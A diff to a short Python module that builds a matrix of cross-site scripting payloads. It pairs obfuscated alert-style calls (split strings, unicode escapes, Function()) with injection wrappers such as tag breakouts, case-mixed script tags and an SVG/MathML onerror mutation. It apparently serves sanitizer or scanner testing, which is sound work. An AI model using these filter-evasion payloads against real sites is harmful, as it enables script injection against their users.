@@ -1,6 +1,9 @@
 """What makes a careless page run a script: forms of injection x ways of writing them."""
 
-_CALLS = ("alert(1)", "confirm`1`", "(alert)(1)", "top['al'+'ert'](1)")
+_CALLS = (
+    "alert(1)", "confirm`1`", "(alert)(1)", "top['al'+'ert'](1)", "prompt?.(1)", "[1].map(alert)", "setTimeout`alert\\x281\\x29`", "window[/al/.source+/ert/.source](1)",
+    "al\\u0065rt(1)", "Function('ale'+'rt(1)')()",
+)  # fmt: skip
 _FORMS = (
     "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script/x>{}</script>", "</title><script>{}</script>", "</textarea><script>{}</script>", "--><script>{}</script>",
     "]]><script>{}</script>", "<<script>{}//<</script>", "<script\n>{}</script\n>", "<svg><script>{}</script></svg>", "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
